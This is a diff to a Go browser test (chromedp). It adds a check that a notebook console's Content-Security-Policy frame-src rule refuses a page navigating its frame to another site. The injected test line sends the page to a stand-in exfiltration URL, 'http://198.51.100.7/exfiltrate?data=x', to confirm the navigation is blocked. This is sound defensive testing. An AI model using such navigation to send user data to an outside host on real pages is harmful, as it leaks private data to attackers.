@@ -270,6 +270,19 @@ func TestPagesInChromium(t *testing.T) {
 	if got := listed(bobTab); got != "bob's note" {
 		t.Errorf("bob's page lists %q; want only his note", got)
 	}
+
+	// The page navigating its own frame to another site: the console's
+	// CSP (frame-src, by default-src 'self') refuses it.
+	inPage(bobTab, `location.href = "http://198.51.100.7/exfiltrate?data=x"`, nil)
+	time.Sleep(time.Second)
+	var frameSrc []string
+	if err := chromedp.Run(bobTab, chromedp.Evaluate(`window.violations.filter((v) => v.startsWith("frame-src"))`, &frameSrc)); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("frame-src violations: %v", frameSrc)
+	if len(frameSrc) == 0 {
+		t.Error("the page's frame navigated to another site without the console's frame-src refusing it")
+	}
 }
 
 // wiped reports whether the notebook's wipe ran for the user of key (an
